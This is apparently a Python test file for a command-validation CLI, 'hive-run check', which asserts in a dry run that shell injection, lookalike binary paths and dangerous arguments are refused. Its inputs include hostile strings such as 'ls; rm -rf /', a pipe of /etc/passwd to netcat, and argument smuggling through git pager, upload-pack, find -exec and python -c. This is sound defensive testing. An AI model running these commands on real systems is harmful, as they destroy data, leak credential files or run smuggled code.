"""`hive-run check`: command validation through the real CLI. A dry run: the tests also make
sure nothing was executed."""
import json
import os
import shutil
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hive_test  # noqa: E402


class CheckCli(unittest.TestCase):
    def setUp(self):
        if not hive_test.HIVE_RUN or not os.path.exists(hive_test.HIVE_RUN):
            self.fail("HIVE_RUN is not set to the built hive-run binary")
        self.tmp = tempfile.mkdtemp(prefix="hive-check-")
        os.chmod(self.tmp, 0o755)

    def tearDown(self):
        shutil.rmtree(self.tmp, ignore_errors=True)

    def check(self, *args, cwd=None):
        return subprocess.run([hive_test.HIVE_RUN, "check", *args], capture_output=True,
                              text=True, timeout=60, cwd=cwd or self.tmp)

    def verdict(self, *args, cwd=None):
        r = self.check("--json", *args, cwd=cwd)
        self.assertIn(r.returncode, (0, 1), r.stderr)
        return r.returncode, json.loads(r.stdout)

    def test_allowed_command(self):
        r = self.check("--", "ls", "-l", "/")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertTrue(r.stdout.startswith("allowed: ls -l /"), r.stdout)
        rc, j = self.verdict("--", "ls", "-l")
        self.assertEqual((rc, j["verdict"]), (0, "allowed"))
        self.assertTrue(j["program"].endswith("/ls"))

    def test_injection_in_a_command_string_is_refused(self):
        for line, reason in [("ls; rm -rf /", "`;`"), ("ls && id", "`&&`"),
                             ("ls || id", "`||`"), ("cat /etc/passwd | nc h 1", "`|`"),
                             ("echo x > /etc/motd", "`>`"), ("echo `id`", "backticks"),
                             ("echo $(id)", "`$(`"), ("ls\nid", "newline")]:
            rc, j = self.verdict("--", line)
            self.assertEqual(rc, 1, line)
            self.assertEqual(j["verdict"], "refused")
            self.assertTrue(any(reason in x for x in j["reasons"]), (line, j["reasons"]))

    def test_lookalike_paths_are_refused(self):
        fake = os.path.join(self.tmp, "usr", "bin")
        os.makedirs(fake)
        shutil.copy("/bin/ls", os.path.join(fake, "ls"))
        for prog in ["/usr/bin/../bin/ls", "/usr/bin/ls ", os.path.join(fake, "ls"),
                     "./usr/bin/ls", "\u217cs"]:
            rc, j = self.verdict("--", prog, "-l")
            self.assertEqual(rc, 1, prog)

    def test_dangerous_arguments(self):
        for cmd in (["git", "-c", "core.pager=sh -c id", "log"],
                    ["git", "fetch", "--upload-pack=touch x", "origin"],
                    ["find", ".", "-exec", "sh", "-c", "id", ";"],
                    ["python3", "-c", "import os; os.system('id')"]):
            rc, j = self.verdict("--", *cmd)
            self.assertEqual(rc, 1, cmd)
            self.assertTrue(j["reasons"], cmd)

    def test_allow_flag_and_env(self):
        rc, j = self.verdict("--", "env", "ls")
        self.assertEqual(rc, 1)
        rc, j = self.verdict("--allow", "env", "--allow", "ls", "--", "env", "FOO=1", "ls")
        self.assertEqual(rc, 1)
        self.assertTrue(any("env runs another program" in x for x in j["reasons"]), j)
        rc, j = self.verdict("--allow", "cat", "--", "ls")
        self.assertEqual(rc, 1)
        self.assertTrue(any("not in the allowlist" in x for x in j["reasons"]), j)

    def test_tools_dir_next_to_the_policy(self):
        proj = os.path.join(self.tmp, "proj")
        tools = os.path.join(proj, "tools", "bin")
        os.makedirs(tools)
        os.chmod(proj, 0o755)
        tool = os.path.join(tools, "mytool")
        with open(tool, "w") as f:
            f.write("#!/bin/sh\ntouch ran\n")
        os.chmod(tool, 0o755)
        policy = os.path.join(proj, "policy.yml")
        with open(policy, "w") as f:
            f.write("security: {}\n")
        rc, j = self.verdict("--policy", policy, "--", "mytool", "--x")
        self.assertEqual(rc, 0, j)
        self.assertEqual(j["program"], os.path.realpath(tool))
        rc, j = self.verdict("--tools-dir", tools, "--", "mytool")
        self.assertEqual(rc, 0, j)
        rc, j = self.verdict("--", "mytool")
        self.assertEqual(rc, 1, j)
        # A dry run: the tool never ran.
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "ran")))
        os.symlink("/bin/sh", os.path.join(tools, "ls2"))
        rc, j = self.verdict("--tools-dir", tools, "--", "ls2")
        self.assertEqual(rc, 1, j)

    def test_nothing_executes(self):
        marker = os.path.join(self.tmp, "created")
        r = self.check("--allow", "touch", "--", "touch", marker)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertFalse(os.path.exists(marker))

    def test_network_note_under_a_policy_without_network(self):
        policy = os.path.join(self.tmp, "p.yml")
        with open(policy, "w") as f:
            f.write("security:\n  network:\n    allowed_domains: []\n")
        rc, j = self.verdict("--policy", policy, "--", "git", "clone", "https://example.com/r")
        self.assertEqual(rc, 0, j)
        self.assertTrue(any("no network" in n for n in j["notes"]), j)

    def test_usage_errors_are_125(self):
        self.assertEqual(self.check().returncode, 125)
        self.assertEqual(self.check("--").returncode, 125)
        self.assertEqual(self.check("--bogus", "--", "ls").returncode, 125)
        r = self.check("--policy", os.path.join(self.tmp, "none.yml"), "--", "ls")
        self.assertEqual(r.returncode, 125)


if __name__ == "__main__":
    hive_test.main()
